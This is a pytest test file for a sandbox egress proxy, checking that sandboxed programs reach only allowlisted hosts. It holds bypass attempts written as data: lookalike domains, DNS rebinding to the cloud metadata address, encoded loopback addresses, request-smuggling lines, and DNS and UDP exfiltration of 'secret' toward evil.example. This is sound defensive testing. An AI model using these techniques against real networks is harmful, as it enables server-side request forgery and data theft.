"""A program that was granted a network reaches what its policy names, and nothing else.

Everything here runs twice where the tests run as root: below a supervisor of root's, and below
one of an ordinary user's.
"""

import json
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from apps.domain.egress import PUBLIC_NETWORK, allowlist
from apps.sandbox.spec import Limits, SandboxResult
from tests.sandboxd.daemon import as_root
from tests.sandboxd.living import Living, python_spec
from tests.sandboxd.outside import (
    NamedDaemon,
    Names,
    Upstream,
    UserDaemon,
    certified,
    read_head,
    say,
)

pytestmark = pytest.mark.sandbox

HOST = "api.kaizen.example"

# Asks the proxy for one connection, says what came back, and goes on from there.
ASK = """
import socket, sys
def ask(line, more=b""):
    link = socket.create_connection(("127.0.0.1", 3128), 15)
    link.sendall(line.encode() + b"\\r\\nHost: x\\r\\n\\r\\n" + more)
    return link
def status(link):
    data = b""
    while b"\\r\\n\\r\\n" not in data:
        chunk = link.recv(4096)
        if not chunk:
            break
        data += chunk
    return data.decode("latin-1")
def told(link):
    head = status(link)
    code = head.partition("X-Kaizen-Egress: ")[2].partition("\\r")[0]
    return code or head.partition("\\r")[0]
"""


@pytest.fixture(scope="module", params=["as we are", "as an ordinary user"])
def named(request: pytest.FixtureRequest, sandbox_home: Path) -> Iterator[NamedDaemon]:
    """A supervisor whose resolver is ours."""
    folder = Path(tempfile.mkdtemp(prefix="kaizen-names-", dir="/var/tmp"))
    folder.chmod(0o755)
    kind = NamedDaemon
    if request.param != "as we are":
        if not as_root():
            pytest.skip("the supervisor of this run is an ordinary user's already")
        kind = UserDaemon
    names = Names(folder)
    daemon = kind(sandbox_home, names=names)
    daemon.names = names  # type: ignore[attr-defined]
    yield daemon
    daemon.remove()
    shutil.rmtree(folder)


@pytest.fixture
def names(named: Any) -> Names:
    """The names of the world outside."""
    return named.names


@pytest.fixture
def upstream() -> Iterator[Callable[..., Upstream]]:
    """Start servers that end with the test."""
    made: list[Upstream] = []

    def start(*args: Any, **named: Any) -> Upstream:
        made.append(Upstream(*args, **named))
        return made[-1]

    yield start
    for one in made:
        one.close()


def verdicts(result: SandboxResult) -> list[tuple[str, int, str]]:
    return [(one.host, one.port, one.verdict) for one in result.crossings]


def ask_all(named: NamedDaemon, lines: list[str], network: Any) -> tuple[Any, SandboxResult]:
    result = named.python(
        f"{ASK}\nimport json\nprint(json.dumps([told(ask(line)) for line in {lines!r}]))",
        network=network,
    )
    assert result.reason == "ok", (result, named.log.read_text()[-2000:])
    return json.loads(result.stdout), result


def test_a_listed_host_is_reached_and_what_passed_is_told(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    server = upstream(say(b"hello from outside"))
    names.add("plain.kaizen.example", "127.0.0.1")
    result = named.python(
        f"""{ASK}
link = ask("CONNECT plain.kaizen.example:{server.port} HTTP/1.1")
assert status(link).startswith("HTTP/1.1 200")
link.sendall(b"GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n")
print(link.recv(4096).decode() + link.recv(4096).decode())
""",
        network=allowlist([f"plain.kaizen.example:{server.port}"]),
    )
    assert b"hello from outside" in result.stdout, (result, named.log.read_text()[-2000:])
    (crossing,) = result.crossings
    assert (crossing.host, crossing.port, crossing.address, crossing.verdict) == (
        "plain.kaizen.example",
        server.port,
        "127.0.0.1",
        "allowed",
    )
    assert crossing.sent == len(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    assert crossing.received > len(b"hello from outside")
    assert names.asked().count("plain.kaizen.example") == 1


def test_a_host_that_is_not_listed_a_subdomain_or_a_lookalike_is_refused(
    named: NamedDaemon, names: Names
) -> None:
    hosts = ["other.example", f"sub.{HOST}", f"evil{HOST}", f"{HOST}.evil.example",
             "a.b.wild.kaizen.example", "wild.kaizen.example"]  # fmt: skip
    network = allowlist([HOST, "*.wild.kaizen.example"])
    told, result = ask_all(named, [f"CONNECT {host}:443 HTTP/1.1" for host in hosts], network)
    assert told == ["host_not_listed"] * len(hosts)
    assert verdicts(result) == [(host, 443, "host_not_listed") for host in hosts]
    # Nobody outside hears of a name that is not listed.
    assert not set(hosts) & set(names.asked())


@pytest.mark.parametrize("network", [PUBLIC_NETWORK, None])
def test_a_name_that_leads_inside_is_refused(
    named: NamedDaemon, names: Names, network: Any
) -> None:
    bad = {
        "metadata": ["169.254.169.254"], "private": ["10.0.0.1"], "mapped": ["::ffff:127.0.0.1"],
        "nat64": ["64:ff9b::7f00:1"], "unique": ["fd00:ec2::254"], "six": ["::1"],
        "any": ["0.0.0.1"], "mixed": ["127.0.0.1", "192.168.1.1"], "6to4": ["2002:7f00:1::"],
    }  # fmt: skip
    for name, answers in bad.items():
        names.add(f"{name}.bad.example", *answers)
    network = network or allowlist(["*.bad.example"])
    told, result = ask_all(
        named, [f"CONNECT {name}.bad.example:443 HTTP/1.1" for name in bad], network
    )
    assert told == ["address_not_public"] * len(bad)
    assert {one.verdict for one in result.crossings} == {"address_not_public"}


def test_an_address_in_any_form_is_no_host(named: NamedDaemon) -> None:
    forms = ["127.0.0.1", "2130706433", "0x7f000001", "127.1", "0177.0.0.1", "0x7f.0.0.0x1",
             "[::1]", "[::ffff:127.0.0.1]", "localhost", "1.1.1.1"]  # fmt: skip
    told, _ = ask_all(named, [f"CONNECT {one}:443 HTTP/1.1" for one in forms], PUBLIC_NETWORK)
    assert set(told) == {"bad_host", "bad_request"}


def test_a_name_is_looked_up_once_for_each_connection_and_never_again(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    server = upstream(say(b"first"))
    # The second answer would lead elsewhere; the first connection never asks for it.
    names.add("rebind.kaizen.example", "127.0.0.1")
    names.add("rebind.kaizen.example", "169.254.169.254")
    line = f"CONNECT rebind.kaizen.example:{server.port} HTTP/1.1"
    told, result = ask_all(named, [line, line], allowlist([f"rebind.kaizen.example:{server.port}"]))
    assert told == ["HTTP/1.1 200 Connection established", "address_not_public"]
    assert names.asked().count("rebind.kaizen.example") == 2
    assert server.reached == 1
    assert sorted(one.verdict for one in result.crossings) == ["address_not_public", "allowed"]


def test_only_a_plain_connect_is_understood(named: NamedDaemon) -> None:
    lines = [
        "GET http://api.kaizen.example/ HTTP/1.1", "POST http://api.kaizen.example/ HTTP/1.1",
        "CONNECT user@api.kaizen.example:443 HTTP/1.1", "CONNECT api.kaizen.example HTTP/1.1",
        "CONNECT api.kaizen.example:443 HTTP/1.1\nX: y",
        "CONNECT api.kaizen.example:443\r HTTP/1.1",
        "CONNECT api.kaizen.example:443 HTTP/1.1\r\nCONNECT evil.example:443 HTTP/1.1",
        "CONNECT api.kaizen.example:443 HTTP/1.1\r\n folded: line",
        "CONNECT api.kaizen.example:443 HTTP/1.1\r\nX: " + "y" * 24_000,
    ]  # fmt: skip
    told, result = ask_all(named, lines, allowlist([HOST]))
    assert told == ["bad_request"] * len(lines)
    assert {one.verdict for one in result.crossings} == {"bad_request"}


def test_what_follows_the_head_goes_to_the_named_host_and_is_no_second_request(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    heard: list[bytes] = []
    done = threading.Event()

    def listen(link: socket.socket) -> None:
        heard.append(read_head(link))
        done.set()

    server = upstream(listen)
    names.add("smuggled.kaizen.example", "127.0.0.1")
    named.python(
        f"""{ASK}
line = "CONNECT smuggled.kaizen.example:{server.port} HTTP/1.1"
link = ask(line, b"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n")
status(link)
link.recv(10)
""",
        network=allowlist([f"smuggled.kaizen.example:{server.port}"]),
    )
    assert done.wait(5)
    assert heard == [b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"]
    assert "evil.example" not in names.asked()


def test_a_port_that_is_not_listed_is_refused(named: NamedDaemon) -> None:
    lines = [f"CONNECT {HOST}:{port} HTTP/1.1" for port in (22, 80, 6379, 55432, 99999, 0)]
    told, _ = ask_all(named, lines, allowlist([HOST]))
    assert told == ["port_not_listed"] * 4 + ["bad_port"] * 2


def test_sixteen_connections_are_open_at_once_and_no_more(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    server = upstream(lambda link: link.recv(1) and None)
    names.add("many.kaizen.example", "127.0.0.1")
    result = named.python(
        f"""{ASK}
opened = []
refused = 0
for _ in range(40):
    try:
        link = ask("CONNECT many.kaizen.example:{server.port} HTTP/1.1")
        head = status(link)
    except OSError:
        head = ""
    if head.startswith("HTTP/1.1 200"):
        opened.append(link)
    else:
        refused += 1
print(len(opened), refused)
""",
        network=allowlist([f"many.kaizen.example:{server.port}"]),
    )
    assert result.stdout.split() == [b"16", b"24"], result
    told = [one.verdict for one in result.crossings]
    assert (told.count("allowed"), told.count("too_many_connections")) == (16, 24)


def test_a_call_moves_no_more_than_its_budget(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    def pour(link: socket.socket) -> None:
        for _ in range(100):
            link.sendall(bytes(1024 * 1024))

    server = upstream(pour)
    names.add("pours.kaizen.example", "127.0.0.1")
    result = named.python(
        f"""{ASK}
link = ask("CONNECT pours.kaizen.example:{server.port} HTTP/1.1")
status(link)
total = 0
try:
    while chunk := link.recv(65536):
        total += len(chunk)
except OSError:
    pass
print(total)
again = ask("CONNECT pours.kaizen.example:{server.port} HTTP/1.1")
status(again)
print(len(again.recv(100)))
""",
        network=allowlist([f"pours.kaizen.example:{server.port}"]),
    )
    total, again = map(int, result.stdout.split())
    assert total <= 64 * 1024 * 1024
    assert again == 0
    assert [one.verdict for one in result.crossings] == ["too_much", "too_much"]


def test_names_and_datagrams_carry_nothing_out(named: NamedDaemon, names: Names) -> None:
    listening = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listening.bind(("", 0))
    listening.settimeout(0.3)
    result = named.python(
        f"""
import socket
def look(name):
    try:
        return socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    except OSError:
        return "none"
print(look("{HOST}"), look("secret-data.evil.example"), look("secret.{HOST}"))
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for address in (("192.0.2.1", 53), ("1.1.1.1", 53), ("127.0.0.1", {listening.getsockname()[1]})):
    try:
        link.sendto(b"secret", address)
    except OSError:
        pass
pointer = b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\x00" * 6 + b"\\xc0\\x0c"
for junk in (b"", b"x" * 600, b"\\x00" * 40, pointer):
    link.sendto(junk, ("127.0.0.1", 53))
print(look("{HOST}"))
""",
        network=allowlist([HOST]),
    )
    assert result.stdout.split() == [b"127.78.0.1", b"none", b"none", b"127.78.0.1"], result
    assert ("secret-data.evil.example", 0, "host_not_listed") in verdicts(result)
    assert not [one for one in names.asked() if "secret" in one]
    with pytest.raises(TimeoutError):
        listening.recv(10)
    listening.close()


def test_a_program_that_knows_no_proxy_reaches_a_listed_host_and_no_other(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    server = upstream(say(b"direct"))
    names.add("direct.kaizen.example", "127.0.0.1")
    result = named.python(
        f"""
import socket
def get(address):
    try:
        with socket.create_connection((address, {server.port}), 5) as link:
            link.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
            data = b""
            while chunk := link.recv(4096):
                data += chunk
            return data[-6:].decode() or "refused"
    except OSError:
        return "refused"
print(get("direct.kaizen.example"), get("127.78.9.9"), get("127.0.0.1"), get("192.0.2.1"))
""",
        network=allowlist([f"direct.kaizen.example:{server.port}"]),
    )
    assert result.stdout.split() == [b"direct", *[b"refused"] * 3], result
    assert server.reached == 1
    assert ("", server.port, "bad_host") in verdicts(result)


def test_programs_with_and_without_a_proxy_speak_tls_from_end_to_end(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream], tmp_path: Path
) -> None:
    tls, authority = certified(tmp_path, "tls.kaizen.example")
    server = upstream(say(b"sealed"), tls=tls)
    names.add("tls.kaizen.example", "127.0.0.1")
    where = f"https://tls.kaizen.example:{server.port}/"
    network = allowlist([f"tls.kaizen.example:{server.port}"])
    files = (("ca.pem", authority.read_bytes()),)
    curl = named.run("curl", "-sS", "--cacert", "/package/ca.pem", where, files=files,
                     network=network)  # fmt: skip
    assert curl.stdout == b"sealed", curl
    python = named.python(
        f"""
import ssl, urllib.request
trusted = ssl.create_default_context(cafile="/package/ca.pem")
proxied = urllib.request.build_opener(urllib.request.HTTPSHandler(context=trusted))
direct = urllib.request.build_opener(
    urllib.request.ProxyHandler({{}}), urllib.request.HTTPSHandler(context=trusted))
print(proxied.open({where!r}).read(), direct.open({where!r}).read())
try:
    urllib.request.urlopen({where!r})
except OSError as problem:
    print("CERTIFICATE" in str(problem))
""",
        files=files,
        network=network,
    )
    assert python.stdout == b"b'sealed' b'sealed'\nTrue\n", python


@pytest.mark.parametrize("proxied", ["1", "0"])
def test_node_reaches_a_listed_host_with_and_without_its_proxy(
    named: NamedDaemon,
    names: Names,
    upstream: Callable[..., Upstream],
    tmp_path: Path,
    proxied: str,
) -> None:
    tls, authority = certified(tmp_path, "node.kaizen.example")
    server = upstream(say(b"sealed"), tls=tls)
    names.add("node.kaizen.example", "127.0.0.1")
    source = f"""
        const told = async (address) => {{
            try {{ return await (await fetch(address)).text(); }}
            catch (problem) {{ return "refused"; }}
        }};
        console.log(await told("https://node.kaizen.example:{server.port}/"),
                    await told("https://other.example/"), await told("https://127.0.0.1/"));
    """
    result = named.run(
        "node", "--input-type=module", "-e", source,
        runtimes=("node",),
        limits=Limits.for_node(),
        files=(("ca.pem", authority.read_bytes()),),
        env=(("NODE_EXTRA_CA_CERTS", "/package/ca.pem"), ("NODE_USE_ENV_PROXY", proxied)),
        network=allowlist([f"node.kaizen.example:{server.port}"]),
    )  # fmt: skip
    assert result.stdout == b"sealed refused refused\n", result
    assert server.reached == 1


def test_no_interface_and_no_route_is_made(named: NamedDaemon) -> None:
    told = named.told(
        """
        import json, socket, struct
        # RTM_NEWLINK for a dummy interface, RTM_NEWADDR, RTM_NEWROUTE: each asks for an answer.
        refused = []
        for kind, body in ((16, struct.pack("BxHiII", 0, 0, 0, 1, 1)),
                           (20, struct.pack("BBBBI", 2, 8, 0, 0, 1)),
                           (24, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0))):
            with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
                link.settimeout(5)
                head = struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0)
                try:
                    link.send(head + body)
                    answer = link.recv(4096)
                    refused.append(struct.unpack_from("i", answer, 16)[0])
                except OSError as problem:
                    refused.append(-problem.errno)
        print(json.dumps(refused))
        """,
        network=allowlist([HOST]),
    )
    assert set(told) <= {-1, -13}


def test_the_call_s_end_ends_its_connections(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    ended = threading.Event()

    def wait(link: socket.socket) -> None:
        link.recv(10)
        ended.set()

    server = upstream(wait)
    names.add("waits.kaizen.example", "127.0.0.1")
    before = named.descriptors()
    result = named.python(
        f"""{ASK}
link = ask("CONNECT waits.kaizen.example:{server.port} HTTP/1.1")
print(status(link)[:12], flush=True)
link.recv(10)
""",
        wall_ms=4_000,
        network=allowlist([f"waits.kaizen.example:{server.port}"]),
    )
    assert result.reason == "wall_timeout"
    assert [one.verdict for one in result.crossings] == ["allowed"]
    assert ended.wait(5)
    until = time.monotonic() + 5
    while named.descriptors() > before and time.monotonic() < until:
        time.sleep(0.02)
    assert named.descriptors() <= before


def test_each_request_to_what_lives_on_tells_what_was_tried_since_the_one_before(
    named: NamedDaemon, names: Names, upstream: Callable[..., Upstream]
) -> None:
    names.add("lives.kaizen.example", "127.0.0.1")
    server = upstream(lambda link: link.sendall(link.recv(100)))
    host, port = "lives.kaizen.example", server.port
    spec = replace(python_spec(), network=allowlist([f"{host}:{port}"]))
    kernel = Living(named, "kernel-out", spec=spec)
    try:
        asked = f"link = ask('CONNECT {host}:{port} HTTP/1.1'); status(link)"
        opened = kernel.cell(f"{ASK}\n{asked}").result
        # It is still open, and told all the same.
        assert [(one.host, one.verdict, one.sent) for one in opened.crossings] == [
            (host, "allowed", 0)
        ]
        assert kernel.cell("1").result.crossings == ()
        ended = kernel.cell("link.sendall(b'x' * 7); link.recv(7); import os; os._exit(3)")
        assert ended.kernel_ended
        assert [(one.host, one.sent) for one in ended.result.crossings] == [(host, 7)]
    finally:
        kernel.close()


def test_without_a_network_there_is_no_proxy_no_names_and_no_variable(named: NamedDaemon) -> None:
    told = named.told(
        """
        import json, os, socket
        def reach(port):
            try:
                socket.create_connection(("127.0.0.1", port), 2).close()
                return True
            except OSError:
                return False
        print(json.dumps([reach(3128), reach(53), reach(443),
              [one for one in os.environ if "PROXY" in one.upper()],
              os.path.exists("/etc/resolv.conf")]))
        """
    )
    assert told == [False, False, False, [], False]


def test_a_program_cannot_take_the_place_of_its_proxy(named: NamedDaemon) -> None:
    told = named.told(
        """
        import json, socket
        taken = []
        for address in (("127.0.0.1", 3128), ("127.0.0.1", 53), ("127.78.0.1", 443), ("", 443)):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                with socket.socket(socket.AF_INET, kind) as one:
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                    try:
                        one.bind(address)
                        taken.append([*address, int(kind)])
                    except OSError:
                        pass
        print(json.dumps(taken))
        """,
        network=allowlist([HOST]),
    )
    # A datagram port of that number is not the proxy's.
    assert told == [["127.0.0.1", 3128, 2]]
